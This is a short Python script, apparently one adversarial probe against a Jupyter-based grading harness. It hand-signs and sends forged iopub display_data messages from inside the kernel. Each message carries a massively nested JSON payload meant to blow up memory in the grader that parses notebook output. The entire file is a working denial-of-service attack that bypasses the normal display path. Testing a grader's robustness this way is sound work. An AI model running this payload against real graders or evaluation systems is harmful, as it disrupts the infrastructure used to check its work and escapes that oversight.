"""
tries: to have the grader read JSON that grows a hundredfold in memory
"""

from jupyter_client.session import DELIM

kernel = get_ipython().kernel
session = kernel.session
header = session.msg_header("display_data") | {"msg_id": session.msg_id}


def send(content):
    parts = [session.pack(header), session.pack(kernel.get_parent("shell")["header"]), b"{}", content.encode()]
    kernel.iopub_thread.send_multipart([b"x", DELIM, session.sign(parts), *parts])


for _ in range(3):
    send('{"data":{"a/json":%s},"metadata":{}}' % ("[" * 200 + ",".join(["[]"] * 200_000) + "]" * 200))
